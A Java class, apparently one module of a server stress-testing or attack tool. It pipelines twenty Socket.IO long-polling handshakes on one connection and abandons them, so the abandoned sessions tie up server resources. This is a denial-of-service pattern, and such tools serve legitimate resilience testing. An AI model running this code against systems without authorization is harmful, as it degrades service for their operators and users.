package io.turbozap.siege;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import java.io.IOException;

/** Socket.IO handshakes by long-polling, many on a connection, whose clients never come back. */
final class ForgottenPolls implements Attack {

    private static final int AT_ONCE = 20;
    private static final String PATH = "GET /socket.io/?EIO=4&transport=polling";

    private final Target target;

    ForgottenPolls(Target target) {
        this.target = target;
    }

    @Override
    public void strike() throws IOException {
        String request = new String(target.keyHead(PATH, ""), ISO_8859_1);
        try (Peer peer = target.open()) {
            peer.offer(request.repeat(AT_ONCE).getBytes(ISO_8859_1));
            peer.awaitAnswer();
        }
    }
}
